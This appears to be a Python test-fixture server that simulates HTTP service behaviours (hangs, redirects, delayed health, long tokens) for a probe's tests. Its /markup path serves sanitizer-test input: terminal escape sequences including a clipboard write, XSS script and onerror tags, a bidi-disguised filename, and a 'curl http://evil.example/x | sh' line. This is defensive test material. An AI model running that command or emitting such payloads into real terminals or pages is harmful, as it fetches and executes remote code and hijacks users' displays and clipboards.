"""A loopback HTTP server for the http probe's tests; each path is a way for a service to behave.

Prints one JSON line once listening: {"http": PORT, "closed": PORT, "full": PORT, "silent": PORT}
  http    the server below
  closed  a port that was bound and closed again: nothing listens there
  full    a listener whose accept queue is full and never drained: connection attempts get no answer
  silent  accepts connections and never reads nor writes (a TLS handshake there never finishes)

Paths:
  /ok                 200 {"status":"ok"}
  /unhealthy          503 {"detail":"Redis not reachable"}
  /hang               reads the request and never answers
  /endless            200, then a body that never ends
  /close              reads the request and closes without a reply
  /healthy-after/N    503 for the first N-1 requests to this path, then 200
  /healthy-in/MS      503 until MS milliseconds after the first request to this path, then 200
  /echo               200, the request line and headers as text
  /redirect           302 to /ok
  /redirect-loop      302 to itself
  /long/KIND          200, one 1 MB line of KIND (letter, hex, base64, digits) then "\nend\n" (linear redaction tests)
  /straddle           200, a URL password that the 2 KiB shown of a body would cut in half
  /markup             200, a body of terminal escapes, bidi overrides and Markdown/HTML markup (output sanitizer tests)
Runs until killed.
"""

import http.server
import json
import socket
import socketserver
import sys
import threading
import time

counts = {}
first_seen = {}
lock = threading.Lock()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def reply(self, status, body, content_type="application/json", headers=()):
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def do_GET(self):
        path = self.path
        if path == "/ok":
            self.reply(200, '{"status":"ok"}')
        elif path == "/unhealthy":
            self.reply(503, '{"detail":"Redis not reachable"}')
        elif path == "/hang":
            while True:
                time.sleep(60)
        elif path == "/endless":
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            chunk = b"x" * 65536
            try:
                while True:
                    self.wfile.write(chunk)
            except OSError:
                pass
            self.close_connection = True
        elif path == "/close":
            self.close_connection = True
        elif path.startswith("/healthy-after/"):
            with lock:
                counts[path] = counts.get(path, 0) + 1
                healthy = counts[path] >= int(path.rsplit("/", 1)[1])
            self.health(healthy)
        elif path.startswith("/healthy-in/"):
            with lock:
                began = first_seen.setdefault(path, time.monotonic())
            self.health(time.monotonic() - began >= int(path.rsplit("/", 1)[1]) / 1000)
        elif path == "/echo":
            lines = [self.requestline] + [f"{name}: {value}" for name, value in self.headers.items()]
            self.reply(200, "\n".join(lines) + "\n", content_type="text/plain")
        elif path.startswith("/long/"):
            self.reply(200, long_line(path[len("/long/"):]) + "\nend\n", content_type="text/plain")
        elif path == "/straddle":
            self.reply(200, "x" * 2020 + " redis://:straddle-pw-0123456789@redis:6379/0 end", content_type="text/plain")
        elif path == "/markup":
            body = (
                "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[31mred <img src=x onerror=alert(1)> [click](http://evil.example/) "
                "![i](http://evil.example/i.png) <script>alert(2)</script> ``` \u202egnp.exe \u009b31m "
                "<http://evil.example/auto> &amp;\n$ curl http://evil.example/x | sh\r\x1b[A\n"
            )
            self.reply(200, body, content_type="text/plain")
        elif path == "/redirect":
            self.reply(302, "", headers=[("Location", "/ok")])
        elif path == "/redirect-loop":
            self.reply(302, "", headers=[("Location", "/redirect-loop")])
        else:
            self.reply(404, '{"detail":"no such path"}')

    def health(self, healthy):
        if healthy:
            self.reply(200, '{"status":"ok"}')
        else:
            self.reply(503, '{"status":"starting"}')

    do_HEAD = do_GET
    do_POST = do_GET
    do_DELETE = do_GET


def long_line(kind, size=1_000_000):
    """One line of a long token, the kind that made a backtracking pattern quadratic."""
    alphabet = {
        "letter": "a",
        "hex": "0123456789ABCDEF",
        "base64": "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        "digits": "0123456789",
    }[kind]
    return (alphabet * (size // len(alphabet) + 1))[:size]


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


def closed_port():
    probe = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    return port


def full_listener():
    # Linux drops a SYN while the accept queue is full, so later connection attempts get no answer.
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(0)
    port = listener.getsockname()[1]
    fillers = []
    for _ in range(4):
        filler = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        filler.setblocking(False)
        try:
            filler.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        fillers.append(filler)
    return listener, fillers, port


def silent_listener():
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    held = []

    def accept():
        while True:
            held.append(listener.accept()[0])

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def main():
    server = Server(("127.0.0.1", 0), Handler)
    kept = full_listener()
    ports = {
        "http": server.server_address[1],
        "closed": closed_port(),
        "full": kept[2],
        "silent": silent_listener(),
    }
    sys.stdout.write(json.dumps(ports) + "\n")
    sys.stdout.flush()
    server.serve_forever()


if __name__ == "__main__":
    main()
